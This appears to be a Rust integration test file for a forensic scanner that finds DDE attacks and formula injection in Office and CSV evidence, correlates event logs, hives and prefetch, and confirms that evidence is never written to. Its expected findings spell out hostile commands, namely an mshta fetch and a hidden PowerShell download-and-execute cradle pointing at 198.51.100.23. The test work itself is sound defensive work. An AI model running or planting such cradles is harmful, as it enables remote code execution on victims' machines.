//! Evidence handling: the sample triage folder, links, special and unreadable files, and the
//! rule that evidence is never written to.

use std::path::Path;

use crate::util::{copy_tree, ddesweep, file_states, read_scan, run_scan, scan, testdata};

#[test]
fn sample_evidence_gives_the_documented_findings() {
    let run = scan(&[&testdata("sample-evidence")], &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut findings: Vec<(String, String, String, String)> = run
        .rows
        .iter()
        .filter(|r| {
            r["severity"] != "info"
                && r["data_type"]
                    .as_str()
                    .unwrap()
                    .starts_with("ddesweep:document:")
        })
        .map(|r| {
            (
                r["source_path"].as_str().unwrap().to_owned(),
                r["user"].as_str().unwrap_or_default().to_owned(),
                r["rule_id"].as_str().unwrap().to_owned(),
                r["command"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    findings.sort();
    let expected = [
        (
            "C/Users/alice/AppData/Local/Microsoft/Windows/INetCache/Content.Outlook/7XK2LQ0B/Payment_Advice.xlsx",
            "alice",
            "ddesweep.document.dde_link",
            "cmd /c mshta http://198.51.100.23/pa.hta",
        ),
        (
            "C/Users/alice/Downloads/Invoice_2291.docx",
            "alice",
            "ddesweep.document.ddeauto_field",
            r#""C:\Programs\Microsoft\Office\MSWord.exe\..\..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -NoP -W Hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.23/inv.ps1') # " "Invoice.docx""#,
        ),
        (
            "C/Users/bob/Desktop/export.csv",
            "bob",
            "ddesweep.document.dde_formula",
            r"\Windows\System32\cmd.exe /c calc.exe",
        ),
    ];
    let expected: Vec<(String, String, String, String)> = expected
        .iter()
        .map(|(a, b, c, d)| ((*a).into(), (*b).into(), (*c).into(), (*d).into()))
        .collect();
    assert_eq!(findings, expected);
    let photo = run.artifact("photo.jpg");
    assert_eq!(photo["status"], "skipped");
    assert_eq!(photo["kind"], "unknown");
    assert_eq!(photo["sha256"], serde_json::Value::Null);
    assert_eq!(run.artifact("Quarterly_Report.docx")["findings"], 0);
    assert_eq!(run.artifact("notes.txt")["status"], "analyzed");
    assert_eq!(run.manifest["totals"]["seen"], 12);
    assert_eq!(run.manifest["totals"]["failed"], 0);

    // The host's logs: AllowDDE enabled, then WINWORD opening the invoice and starting cmd.exe.
    let logs = "C/Windows/System32/winevt/Logs/";
    let events: Vec<(String, String, u64)> = run
        .rows
        .iter()
        .filter(|r| {
            r["data_type"]
                .as_str()
                .unwrap()
                .starts_with("ddesweep:eventlog:")
        })
        .map(|r| {
            (
                r["source_path"]
                    .as_str()
                    .unwrap()
                    .trim_start_matches(logs)
                    .to_owned(),
                r["rule_id"].as_str().unwrap_or("context").to_owned(),
                r["record_number"].as_u64().unwrap(),
            )
        })
        .collect();
    let sysmon = "Microsoft-Windows-Sysmon%4Operational.evtx";
    let expected: Vec<(String, String, u64)> = [
        (sysmon, "ddesweep.eventlog.word_allow_dde", 8),
        (sysmon, "context", 12),
        ("Security.evtx", "context", 3),
        (sysmon, "ddesweep.eventlog.office_child", 13),
        ("Security.evtx", "ddesweep.eventlog.office_child", 4),
    ]
    .iter()
    .map(|(a, b, c)| ((*a).to_owned(), (*b).to_owned(), *c))
    .collect();
    assert_eq!(events, expected);

    // The host's hives and prefetch: every row is attributed to the host, alice's rows carry her
    // SID (from the SOFTWARE hive's ProfileList), AllowDDE = 1 is also in her hive, and cmd.exe's
    // last run is in its prefetch.
    // (event-log rows keep the FQDN their records name).
    for row in &run.rows {
        let host = row["host"].as_str().unwrap_or_default();
        assert!(
            host == "WS-ALICE" || host == "WS-ALICE.corp.example",
            "{}",
            row["message"]
        );
    }
    let alice_sid = "S-1-5-21-1111111111-2222222222-3333333333-1104";
    let allow = run
        .rows
        .iter()
        .find(|r| {
            r["source_path"] == "C/Users/alice/NTUSER.DAT"
                && r["rule_id"] == "ddesweep.eventlog.word_allow_dde"
        })
        .unwrap();
    assert_eq!(allow["datetime"], "2024-03-04T09:11:01.000000+00:00");
    assert_eq!(allow["user"], "alice");
    assert_eq!(allow["user_sid"], alice_sid);
    let cmd = run
        .rows
        .iter()
        .find(|r| {
            r["data_type"] == "ddesweep:prefetch:execution"
                && r["timestamp_desc"] == "Last Time Executed"
        })
        .unwrap();
    assert_eq!(cmd["datetime"], "2024-03-04T09:12:04.000000+00:00");
    assert_eq!(cmd["image"], "CMD.EXE");
}

#[test]
fn evidence_is_unchanged_by_a_scan() {
    let evidence = tempfile::tempdir().unwrap();
    copy_tree(&testdata("sample-evidence"), evidence.path());
    copy_tree(
        &testdata("documents/hostile"),
        &evidence.path().join("hostile"),
    );
    let before = file_states(evidence.path());
    let run = scan(&[evidence.path()], &[]);
    assert_eq!(run.code, 1, "the hostile files fail: {}", run.stderr);
    assert_eq!(file_states(evidence.path()), before, "evidence changed");
}

#[test]
fn output_inside_evidence_is_refused_before_anything_is_written() {
    let evidence = tempfile::tempdir().unwrap();
    copy_tree(&testdata("documents/positive"), evidence.path());
    let before = file_states(evidence.path());
    let out = evidence.path().join("results");
    let output = ddesweep()
        .args(["scan", "--quiet", "-o"])
        .arg(&out)
        .arg(evidence.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("is inside evidence"));
    assert!(!out.exists());
    assert_eq!(file_states(evidence.path()), before);
}

#[test]
fn missing_evidence_is_a_usage_error() {
    let out = tempfile::tempdir().unwrap();
    let output = run_scan(&[Path::new("/nonexistent/evidence")], out.path(), &[]);
    assert_eq!(output.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&output.stderr).contains("/nonexistent/evidence"));
}

#[cfg(unix)]
#[test]
fn links_special_and_unreadable_files_are_accounted_for() {
    use std::os::unix::fs::{PermissionsExt, symlink};
    let evidence = tempfile::tempdir().unwrap();
    let root = evidence.path();
    std::fs::create_dir(root.join("dir")).unwrap();
    std::fs::copy(
        testdata("documents/positive/csv-cmd.csv"),
        root.join("dir/a.csv"),
    )
    .unwrap();
    symlink("..", root.join("dir/loop")).unwrap();
    symlink("/etc/passwd", root.join("outside.txt")).unwrap();
    let fifo = std::process::Command::new("mkfifo")
        .arg(root.join("pipe.csv"))
        .status()
        .unwrap();
    assert!(fifo.success());
    let secret = root.join("secret.csv");
    std::fs::copy(testdata("documents/positive/csv-cmd.csv"), &secret).unwrap();
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o000)).unwrap();

    let out = tempfile::tempdir().unwrap();
    let output = if is_root() {
        // Root reads any file: run as nobody so that the permission bits count.
        for dir in [root, out.path()] {
            std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o777)).unwrap();
        }
        std::fs::set_permissions(root.join("dir"), std::fs::Permissions::from_mode(0o777)).unwrap();
        std::fs::set_permissions(
            root.join("dir/a.csv"),
            std::fs::Permissions::from_mode(0o644),
        )
        .unwrap();
        std::process::Command::new("setpriv")
            .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
            .arg(env!("CARGO_BIN_EXE_ddesweep"))
            .args(["scan", "--quiet", "-o"])
            .arg(out.path())
            .arg(root)
            .output()
            .unwrap()
    } else {
        run_scan(&[root], out.path(), &[])
    };
    let run = read_scan(out, &output);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let status = |name: &str| {
        let a = run.artifact(name);
        (
            a["status"].as_str().unwrap().to_owned(),
            a["reason"].as_str().unwrap_or_default().to_owned(),
        )
    };
    assert_eq!(
        status("dir/loop"),
        ("skipped".into(), "symbolic link: not followed".into())
    );
    assert_eq!(
        status("outside.txt"),
        ("skipped".into(), "symbolic link: not followed".into())
    );
    assert_eq!(
        status("pipe.csv"),
        (
            "skipped".into(),
            "not a regular file (FIFO, socket or device)".into()
        )
    );
    let (secret_status, secret_reason) = status("secret.csv");
    assert_eq!(secret_status, "failed");
    assert!(
        secret_reason.contains("Permission denied"),
        "{secret_reason}"
    );
    assert_eq!(run.commands_in("dir/a.csv"), ["cmd /c calc.exe"]);
    assert_eq!(run.manifest["totals"]["seen"], 5);
}

#[cfg(unix)]
fn is_root() -> bool {
    std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
}
